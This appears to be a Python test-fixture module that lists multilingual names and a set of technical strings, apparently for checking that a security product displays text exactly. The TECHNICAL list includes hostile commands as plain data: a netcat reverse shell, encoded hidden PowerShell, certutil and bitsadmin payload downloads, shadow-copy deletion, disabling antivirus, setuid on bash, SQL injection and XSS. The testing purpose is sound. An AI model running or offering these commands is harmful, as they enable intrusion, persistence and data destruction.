"""Names, paths and commands as they occur at honest customers, in many scripts: shown exactly as they are."""

BY_SCRIPT: dict[str, list[str]] = {
    "Latin": [
        "Acme Dental", "Borealis Foods", "Cedar Clinic", "Delta Ltd", "Société Générale", "Müller & Söhne GmbH", "Øresund Havn A/S", "Žilina Nemocnica", "Łódź Transport Sp. z o.o.",
        "Ağaoğlu İnşaat A.Ş.", "Nguyễn Thị Minh Khai", "Công ty TNHH Phở Hà Nội", "São Paulo Saúde", "L'Hôpital de Genève", "O’Brien & Sons", "Gødtfred Ærø", "Ísland ehf.", "Ångström Labs",
        "Straße 7 – Büro", "“Quoted” Name", "Ñandú S.A.", "Čeština a. s.", "Kőbánya Kft.", "Ţara Românească", "Ġgantija Ltd", "naïve café", "50 % of £100 → €115", "Acme™ ©2026 ®",
    ],
    "Cyrillic": ["ООО Ромашка", "Київський завод", "Банк Москвы", "Београд д.о.о.", "София ЕООД", "Иванов Пётр", "отчёт за квартал.xlsx", "Нижний Новгород", "Беларусбанк", "Улаанбаатар ХХК"],
    "Greek": ["Αθηναϊκή Ζυθοποιία", "Τράπεζα Πειραιώς", "Γιώργος Παπαδόπουλος", "Ελλάδα Α.Ε.", "αναφορά.docx", "Θεσσαλονίκη", "Ωμέγα Σύμβουλοι"],
    "Arabic": ["شركة النور", "مستشفى الملك فيصل", "محمد عبد الله", "بنك الرياض", "تقرير 2026.pdf", "الدار البيضاء", "بانک ملی ایران", "پاکستان سٹیل"],
    "Hebrew": ["בנק הפועלים", "יעל כהן", "בית חולים שיבא", "דוח שנתי.pdf", "תל אביב", "חברת החשמל"],
    "Devanagari": ["भारतीय स्टेट बैंक", "राम कुमार", "नई दिल्ली", "मुंबई शाखा", "हिन्दी पत्र.docx", "काठमाडौं"],
    "Bengali": ["ঢাকা ব্যাংক", "বাংলাদেশ", "রহিম উদ্দিন"],
    "Tamil": ["சென்னை மருத்துவமனை", "தமிழ் நாடு", "குமார்"],
    "Thai": ["ธนาคารกรุงเทพ", "สมชาย ใจดี", "โรงพยาบาล", "รายงานที่ 1.pdf", "เชียงใหม่"],
    "Han": ["中国银行", "北京大学第三医院", "张伟", "李娜", "上海分公司（测试）", "報告書—最終版.docx", "台積電", "香港賽馬會", "王小明的电脑"],
    "Japanese": ["株式会社山田製作所", "東京　太郎", "さくらインターネット", "カタカナ・テスト", "ﾊﾝｶｸ ｶﾅ", "みずほ銀行", "報告書「最終」.xlsx", "デスクトップ", "ラーメン二郎〜本店"],
    "Hangul": ["삼성전자", "김철수", "서울대학교 병원", "보고서 최종.hwp", "부산은행", "네이버(주)"],
    "Armenian": ["Երևան բանկ", "Արմեն Սարգսյան", "Գյումրի"],
    "Georgian": ["საქართველოს ბანკი", "თბილისი", "გიორგი"],
    "Ethiopic": ["አዲስ አበባ", "ኢትዮጵያ አየር መንገድ"],
}  # fmt: skip

TECHNICAL: list[str] = [
    "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "powershell -c \"Get-Process | ? { $_.CPU -gt 10 }\"", "cmd.exe /c \"net user /domain > %TEMP%\\u.txt\"",
    "C:\\Windows\\System32\\cmd.exe", "C:\\new\\table\\x1b\\u202e.txt", "C:\\Users\\Public\\Documents\\report (1).docx", "C:\\Program Files (x86)\\Vendor\\app.exe", "C:\\PROGRA~1\\VENDOR~1\\APP.EXE",
    "\\\\fs01.acme.example\\share$\\Finance", "\\\\?\\C:\\very\\long\\path", "\\Device\\HarddiskVolume3\\Windows\\explorer.exe", "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "HKU\\S-1-5-21-1004336348-1177238915-682003330-512\\Software", "NT AUTHORITY\\SYSTEM", "ACME\\svc-backup", "BUILTIN\\Administrators",
    "/usr/bin/python3.11 -m http.server 8000", "/bin/sh -c 'ls -la /tmp | grep -v root'", "/home/dana/.ssh/authorized_keys", "/var/log/auth.log.1.gz", "/proc/4024/fd/3", "/opt/app/[release]/bin/run", "/etc/passwd",
    "~/Library/LaunchAgents/com.example.agent.plist", "/Applications/Visual Studio Code.app/Contents/MacOS/Electron", "/System/Volumes/Data", "curl -fsSL https://example.com/install.sh | bash", "wget -qO- http://10.0.0.5:8080/x",
    "ssh -N -L 8080:localhost:80 user@bastion", "rm -rf /tmp/build-*", "find / -perm -4000 -type f 2>/dev/null", "awk -F: '{print $1}' /etc/passwd", "sed -i 's/[0-9]\\+/X/g' f", "tar czf - . | openssl enc -aes-256-cbc",
    "docker run --rm -it -v $PWD:/w alpine sh", "kubectl exec -it pod-7f9c -- /bin/bash", "systemctl restart nginx.service", "reg add HKCU\\Software\\X /v Y /t REG_SZ /d Z /f", "schtasks /create /tn \"Update\" /tr c:\\x.exe /sc onlogon",
    "wmic process call create \"calc.exe\"", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"", "certutil -urlcache -split -f http://x/y.exe", "bitsadmin /transfer j /priority high http://x/a c:\\a", "vssadmin delete shadows /all /quiet",
    "[T1059.001] PowerShell", "[bold]not markup[/bold]", "[@click=app.quit]invoice.pdf", "x [/foo] y", "[/]", "array[0][1]", "{{template}} ${VAR} $(cmd) `cmd`", "<script>alert(1)</script>", "'; DROP TABLE users;--", "=1+1",
    "general.encoded-powershell-download", "dr-managed/lsass-access", "service.windows-defender", "lc://detection/00001-encoded", "vip_detection", "00000000-0000-4000-8000-000000000000", "acme-fs01.corp.example.com", "DESKTOP-4F7K2QJ",
    "WIN-SRV2019$", "ip-10-0-12-7.eu-west-1.compute.internal", "2001:db8::8a2e:370:7334", "192.0.2.17:443", "fe80::1%eth0", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "d41d8cd98f00b204e9800998ecf8427e",
    "dana@provider.example", "ci-deploy[bulk]", "api key #3 (stale?)", "group: active-responders", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)", "arn:aws:iam::123456789012:user/Bob", "projects/p-1/serviceAccounts/x@y",
    "CN=dc01,OU=Domain Controllers,DC=acme,DC=example", "CVE-2026-12345", "tier=gold, region=eu", "SLA 15 min / 4 h", "a ~ b", "~", "\\", "\\\\", "\\x", "\\x1b", "\\u202e", "^G", "%1b%5b31m", "&#27;[31m", "=?utf-8?B?SGk=?=",
    "\u2502 box \u2500 drawing \u2514", "\u2581\u2582\u2583\u2584\u2585\u2586\u2587\u2588", "\u2714 done \u2718 failed \u26a0 warn", "\U0001f512 locked \U0001f680", "x \u2264 y \u2260 z \u00b1 1", "10 \u00b5s \u00d7 3 = \u00bd", "\u2190 \u2191 \u2192 \u2193", "\ufffd\ufffd broken encoding",
    "Install-Module -Name Az -Scope CurrentUser -Force", "Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true", "Add-LocalGroupMember -Group Administrators -Member x", "git clone --depth=1 git@github.com:org/repo.git",
    "python -c \"import os; print(os.environ['PATH'])\"", "java -jar /srv/app-1.2.3.jar --spring.profiles.active=prod", "node --inspect=0.0.0.0:9229 index.js", "gcc -O2 -Wall -o a.out a.c && ./a.out", "mysql -u root -p'pa ss' -e 'SELECT 1'",
    "echo \"hello\" >> ~/.bashrc", "crontab -l | { cat; echo \"* * * * * x\"; } | crontab -", "chmod u+s /bin/bash", "iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT", "nc -e /bin/sh 10.1.2.3 4444",
]  # fmt: skip

BENIGN: list[str] = [*(name for names in BY_SCRIPT.values() for name in names), *TECHNICAL]
